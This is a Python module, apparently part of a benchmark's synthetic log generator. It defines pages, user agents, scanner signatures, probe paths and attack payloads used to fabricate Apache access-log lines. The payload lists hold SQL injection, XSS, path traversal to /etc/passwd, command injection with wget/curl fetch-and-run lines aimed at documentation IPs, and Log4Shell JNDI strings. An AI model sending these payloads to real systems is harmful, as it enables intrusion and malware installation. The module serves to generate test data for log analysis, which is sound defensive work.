"""What the generated web site and its visitors send: pages, assets, user agents, probe paths
and attack payloads. Callback hosts inside payloads use documentation addresses; the payloads
are percent-encoded the way the tools send them, and never contain `"` or a backslash (Apache
would escape those in its log)."""

from __future__ import annotations

import numpy as np
import polars as pl

from bench.loggen.common import Template, pick

TEMPLATE = Template(
    '{ip} - {user} [{ts}] "{method} {url} HTTP/1.1" {status} {size} "{referer}" "{ua}"'
)
SITE = "https://www.example.com"

PAGES = (
    "/", "/index.html", "/about", "/contact", "/blog/", "/blog/2026/11/release-notes",
    "/blog/2026/10/hardening-ssh", "/blog/2026/09/log-retention", "/docs/", "/docs/install",
    "/docs/configuration", "/docs/faq", "/pricing", "/careers", "/products.php", "/cart",
    "/login", "/account", "/news.php", "/support",
)  # fmt: skip
PAGE_WEIGHTS = (10, 3, 2, 2, 4, 2, 2, 1, 3, 3, 2, 2, 2, 1, 4, 2, 2, 1, 2, 1)
# Pages that take a parameter, in benign form.
PARAM_PAGES = ("/products.php?id=", "/search?q=", "/news.php?cat=")
SEARCH_WORDS = (
    "shoes", "blue+jacket", "gift+card", "returns", "shipping", "size+guide", "ssh+keys",
    "invoice", "warranty", "opening+hours",
)  # fmt: skip
DEAD_LINKS = ("/old-page.html", "/blog/2019/01/gone", "/images/banner-2020.png", "/promo")
ASSETS = (
    "/static/css/site.css", "/static/js/app.js", "/static/js/vendor.js", "/static/img/logo.svg",
    "/static/img/hero.webp", "/static/fonts/inter.woff2", "/favicon.ico",
)  # fmt: skip
BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko)"
    " Version/18.0 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like"
    " Gecko) Version/18.0 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/130.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
)
BOTS = (
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
)
REFERERS = ("-", "https://duckduckgo.com/", "https://www.bing.com/", "https://news.example.org/")
HEALTH_UA = "kube-probe/1.31"
CLI_AGENTS = ("curl/8.5.0", "python-requests/2.32.3", "Go-http-client/1.1")

# Tool user agents; {n} in Nikto's is its test number.
SCANNER_TOOLS = {
    "nikto": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:{n})",
    "nmap": "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "nuclei": "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "wpscan": "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "gobuster": "gobuster/3.6",
    "dirbuster": "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "zgrab": "Mozilla/5.0 zgrab/0.x",
    "masscan": "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
}
SQLMAP = "sqlmap/1.8.11#stable (https://sqlmap.org)"

PROBES = (
    "/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-admin/", "/xmlrpc.php",
    "/phpmyadmin/", "/pma/", "/admin/", "/administrator/", "/server-status", "/cgi-bin/test-cgi",
    "/cgi-bin/printenv", "/config.php.bak", "/backup.zip", "/db.sql", "/.DS_Store", "/.htaccess",
    "/.htpasswd", "/web.config", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/solr/admin/", "/actuator/env", "/console", "/manager/html", "/jmx-console/", "/HNAP1/",
    "/boaform/admin/formLogin", "/owa/auth/logon.aspx", "/remote/login", "/.aws/credentials",
    "/telescope/requests", "/_ignition/health-check", "/sftp-config.json", "/.vscode/sftp.json",
    "/install.php", "/setup.php", "/info.php", "/phpinfo.php", "/shell.php", "/uploads/",
    "/backup/", "/old/", "/logs/", "/dump.sql", "/.svn/entries", "/CHANGELOG.txt",
    "/readme.html",
)  # fmt: skip
WORDS = (
    "admin", "backup", "old", "new", "test", "dev", "staging", "api", "v1", "v2", "private",
    "secret", "files", "download", "upload", "data", "db", "sql", "config", "conf", "tmp",
    "temp", "log", "logs", "web", "www", "site", "cms", "portal", "panel", "dashboard", "user",
    "users", "login", "auth", "include", "lib", "src", "bin", "scripts", "assets", "media",
)  # fmt: skip
WORD_SUFFIXES = ("/", ".php", ".bak", ".zip", ".txt", ".old", "")

SQLI_TARGETS = ("/products.php?id=", "/item?id=", "/search?q=", "/news.php?cat=")
SQLI = (
    "1%27%20OR%20%271%27=%271",
    "1'%20OR%201=1--%20-",
    "-1%20UNION%20SELECT%20NULL,username,password%20FROM%20users--",
    "1%20AND%20SLEEP(5)",
    "1'%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)--%20-",
    "1%3BDROP%20TABLE%20users--",
    "1'%20UNION%20ALL%20SELECT%20CONCAT(0x717a767a71,version(),0x716b786b71)--%20-",
    "admin'--",
    "1%20AND%201=CONVERT(int,@@version)--",
    "1)%20AND%20EXTRACTVALUE(1,CONCAT(0x5c,(SELECT%20database())))--",
    "1%27%20AND%20%27a%27=%27a",
    "1%20ORDER%20BY%2010--",
)
XSS_TARGETS = ("/search?q=", "/comment?text=", "/profile?name=", "/contact?msg=")
XSS = (
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<script>alert(document.cookie)</script>",
    "%3Cimg%20src=x%20onerror=alert(1)%3E",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "%22%3E%3Cscript%3Ealert(String.fromCharCode(88,83,83))%3C/script%3E",
    "<iframe%20src=javascript:alert(1)>",
    "%3Cbody%20onload=alert('xss')%3E",
)
TRAVERSAL = (
    "/download.php?file=../../../../etc/passwd",
    "/download.php?file=..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/static/..%2f..%2f..%2f..%2fetc/shadow",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/index.php?page=....//....//....//etc/passwd",
    "/view?template=..%5c..%5c..%5cwindows%5cwin.ini",
    "/images/%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "/?file=/etc/passwd%00.png",
)
CMDI = (
    "/ping.php?host=127.0.0.1;cat%20/etc/passwd",
    "/cgi-bin/status?cmd=|id",
    "/api/exec?c=$(whoami)",
    "/diag?ip=127.0.0.1%7C%7Cuname%20-a",
    "/?q=%60id%60",
    "/shell?cmd=;wget%20http://198.51.100.66/x.sh%20-O-|sh",
    "/cgi-bin/;cd%20/tmp;curl%20-O%20http://203.0.113.99/bot;sh%20bot",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.45:8088"
    "/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1",
)
LOG4SHELL_URLS = (
    "/?x=${jndi:ldap://203.0.113.77:1389/a}",
    "/${jndi:ldap://198.51.100.23:1389/Exploit}",
    "/%24%7Bjndi:ldap://192.0.2.9:1389/Basic/Command/Base64/aWQ=%7D",
    "/?q=${${lower:j}ndi:${lower:l}dap://198.51.100.23/x}",
    "/?x=${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.77:1099/o}",
)
LOG4SHELL_AGENTS = (
    "${jndi:ldap://203.0.113.77:1389/Exploit}",
    "${jndi:dns://198.51.100.23/a}",
    "Mozilla/5.0 ${jndi:ldap://192.0.2.9/o}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.23:389/TomcatBypass}",
)
AUTH_PATHS = ("/admin/", "/manager/html", "/private/")
AUTH_USERS = ("admin", "tomcat", "root", "manager", "test")
FORBIDDEN = ("/server-status", "/.htaccess", "/.git/config", "/backup/", "/.env", "/private/keys")
# Response sizes (bytes, inclusive range) by status; 0 is written as "-".
SIZES = {200: (200, 40000), 301: (233, 233), 304: (0, 0), 400: (226, 226), 401: (381, 381)}
SIZES |= {403: (199, 320), 404: (196, 520), 500: (531, 531)}


def choose(
    rng: np.random.Generator,
    values: tuple[str, ...],
    n: int,
    p: tuple[float, ...] | list[float] | None = None,
) -> pl.Series:
    return pl.Series(values, dtype=pl.String).gather(pick(rng, values, n, p=p))


def payload_urls(
    rng: np.random.Generator, targets: tuple[str, ...], payloads: tuple[str, ...], n: int
) -> pl.Series:
    frame = pl.DataFrame({"target": choose(rng, targets, n), "payload": choose(rng, payloads, n)})
    return frame.select(pl.concat_str(["target", "payload"])).to_series()


def probe_urls(rng: np.random.Generator, n: int, *, words_only: bool = False) -> pl.Series:
    """Known probe paths (60%) and dictionary words (`/backup.zip`, `/admin/`, ...)."""
    frame = pl.DataFrame(
        {
            "word": choose(rng, WORDS, n),
            "suffix": choose(rng, WORD_SUFFIXES, n),
            "probe": choose(rng, PROBES, n),
            "known": rng.random(n) < 0.6,
        }
    )
    word = pl.concat_str([pl.lit("/"), pl.col("word"), pl.col("suffix")])
    if words_only:
        return frame.select(word).to_series()
    return frame.select(pl.when("known").then(pl.col("probe")).otherwise(word)).to_series()


def sizes(rng: np.random.Generator, status: np.ndarray) -> np.ndarray:
    out = np.zeros(len(status), dtype=np.int64)
    for code in np.unique(status):
        # A loop over the handful of distinct status codes, not over rows.
        mask = status == code
        a, b = SIZES[int(code)]
        out[mask] = rng.integers(a, b + 1, size=int(mask.sum()))
    return out
